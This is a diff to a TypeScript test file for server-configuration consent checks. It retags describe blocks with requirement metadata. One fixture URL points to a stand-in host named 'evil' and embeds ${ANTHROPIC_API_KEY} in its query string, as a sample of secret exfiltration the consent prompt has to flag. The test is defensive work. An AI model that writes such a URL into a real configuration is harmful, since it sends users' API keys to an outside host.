@@ -10,7 +10,7 @@ const http = {
   auth: { type: "api_key", headerName: "H", apiKey: "${K}" },
 } as const;
 
-describe("[A1] consent is void after a change of", () => {
+describe("consent is void after a change of", { meta: { covers: ["A1"] } }, () => {
   it.each<[string, ConfiguredServer, ConfiguredServer]>([
     ["the command", of(stdio), of({ ...stdio, command: "y" })],
     ["an argument", of(stdio), of({ ...stdio, args: ["b"] })],
@@ -54,7 +54,7 @@ it("what is expanded later does not count today, so that a new token asks nobody
   expect(definitionHash(of({ env: { A: "${B}" } }))).not.toBe(definitionHash(of({ env: { A: "value of B" } })));
 });
 
-describe("[A2] consent names what would be handed over:", () => {
+describe("consent names what would be handed over:", { meta: { covers: ["A2"] } }, () => {
   it.each<[string, ConfiguredServer, string[]]>([
     ["nothing", of({ args: ["$${NOT}"] }), []],
     ["a variable in a URL", at({ url: "https://evil/?k=${ANTHROPIC_API_KEY}" }), ["ANTHROPIC_API_KEY"]],
